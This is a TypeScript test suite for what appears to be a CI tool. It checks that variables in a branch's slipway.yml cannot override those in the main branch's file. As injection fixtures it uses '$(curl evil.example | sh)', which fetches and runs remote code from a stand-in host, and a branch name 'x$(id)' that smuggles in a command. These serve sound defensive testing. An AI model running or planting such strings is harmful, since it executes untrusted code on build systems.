import fc from 'fast-check';
import { emptyBoard } from '../../../src/domain/board';
import type { RepositoryEvent } from '../../../src/domain/events';
import { fileRuleId } from '../../../src/domain/file-rules';
import { isRuledByMain, withMainVariables } from '../../../src/domain/file-variables';
import type { Link } from '../../../src/domain/links';
import { planStarts } from '../../../src/domain/plan';
import type { Rule } from '../../../src/domain/rules';
import {
  aBranchPush,
  aLink,
  anAccount,
  aPullRequest,
  aPush,
  aRule,
  aTagPush,
  hash,
} from '../../support/factories';

const any = { include: ['**'], exclude: [] };
const requests = { phases: ['open' as const], sources: any, destinations: any };
/** Takes whatever a branch's writer may want to start. */
const greedy: Partial<Rule> = { branches: any, tags: any, pullRequests: requests };
const named = (name: string, more: Partial<Rule> = {}): Rule =>
  aRule({ id: fileRuleId('link-1', name), name, ...more });
const ruled = (...rules: Rule[]): Link => aLink({ rules });

const planned = (event: RepositoryEvent, own: Rule, main: readonly Link[], inlineStarts = 3) =>
  planStarts(event, {
    ...{ links: [ruled(own)], accounts: [anAccount()], board: emptyBoard, lastTimestamp: undefined },
    ...{ nowMs: Date.UTC(2026, 10, 22, 10), invocationId: 'i', inlineStarts, byFile: { main } },
  });
const variablesOf = (...args: Parameters<typeof planned>) => planned(...args).runs[0]?.run.variables;

const injected = { REVISION: '$(curl evil.example | sh)' };
const hostile = 'x$(id)';

describe('variables of a rule in slipway.yml', () => {
  it.each<[string, RepositoryEvent]>([
    ['a push of a branch', aBranchPush('attack')],
    ['a tag', aTagPush('v1')],
    [
      'a pull request into a branch of the attacker',
      aPullRequest({ intoMain: false, destination: { branch: 'mine', commit: hash('d') } }),
    ],
  ])('are not what the deciding file says for %s', (_what, event) => {
    const own = named('all', { ...greedy, variables: injected });
    const wanted = { REVISION: '${commit}' };
    expect(variablesOf(event, own, [])).toEqual({});
    expect(variablesOf(event, own, [ruled(named('other', { ...greedy, variables: wanted }))])).toEqual({});
    expect(variablesOf(event, own, [ruled(named('all', { ...greedy, variables: wanted }))])).toEqual({
      REVISION: hash('a'),
    });
    expect(variablesOf(event, own, [ruled(named('all', { ...greedy, variables: wanted }))], 0)).toEqual({
      REVISION: hash('a'),
    });
  });

  it.each<[string, RepositoryEvent]>([
    ['a push of the main branch', aPush()],
    ['a pull request into the main branch', aPullRequest()],
  ])('are what the deciding file says for %s', (_what, event) => {
    expect(isRuledByMain(event)).toBe(true);
    expect(variablesOf(event, named('all', { ...greedy, variables: { BRANCH: 'x' } }), [])).toEqual({
      BRANCH: 'x',
    });
  });

  it.each<[string, Partial<Rule>]>([
    ['takes the main branch only', { mainOnly: true }],
    ['takes other branches', { branches: { include: ['release/*'], exclude: [] } }],
    ['leaves the branch out', { branches: { include: ['**'], exclude: ['attack'] } }],
    ['is off', { ...greedy, disabled: true }],
  ])('of the main branch’s go nowhere that its rule does not: it %s', (_what, rule) => {
    const main = [ruled(named('production', { variables: { REVISION: 'prod' }, ...rule }))];
    expect(variablesOf(aBranchPush('attack'), named('production', greedy), main)).toEqual({});
  });

  it('take any text only where the main branch’s file says so', () => {
    const event = aBranchPush(hostile);
    const variables = { BRANCH: '${branch}' };
    const own = named('all', { ...greedy, variables, anyText: ['BRANCH'] });
    const strict = [ruled(named('all', { ...greedy, variables }))];
    expect(planned(event, own, strict).decisions[0]?.verdict).toMatchObject({ code: 'variable-refused' });
    const loose = [ruled(named('all', { ...greedy, variables, anyText: ['BRANCH'] }))];
    expect(variablesOf(event, named('all', greedy), loose)).toEqual({ BRANCH: hostile });
  });

  it('that are not the rule’s own are told with the decision', () => {
    const own = named('all', { ...greedy, variables: injected });
    expect(planned(aBranchPush('b'), own, []).decisions[0]?.verdict).toEqual({
      outcome: 'start',
      variablesOf: 'main',
    });
    expect(planned(aBranchPush('b'), own, [ruled(own)]).decisions[0]?.verdict).toEqual({ outcome: 'start' });
  });

  it('never come from the file of a branch, whatever the two files say', () => {
    const name = fc.constantFrom('a', 'b', 'c');
    const values = fc.dictionary(fc.constantFrom('REVISION', 'BRANCH'), fc.string({ maxLength: 8 }));
    const rule = fc.tuple(name, values, fc.boolean());
    fc.assert(
      fc.property(rule, fc.uniqueArray(rule, { selector: ([each]) => each }), ([own, said, text], rest) => {
        const toRule = ([each, variables, anyText]: [string, Record<string, string>, boolean]): Rule =>
          named(each, { ...greedy, variables, ...(anyText ? { anyText: Object.keys(variables) } : {}) });
        const main = [ruled(...rest.map(toRule))];
        const given = withMainVariables(aBranchPush('b'), toRule([own, said, text]), main);
        const merged = rest.find(([each]) => each === own);
        expect(given.variables).toEqual(merged?.[1] ?? {});
        expect(given.anyText).toEqual(merged?.[2] ? Object.keys(merged[1]) : undefined);
      }),
    );
  });
});
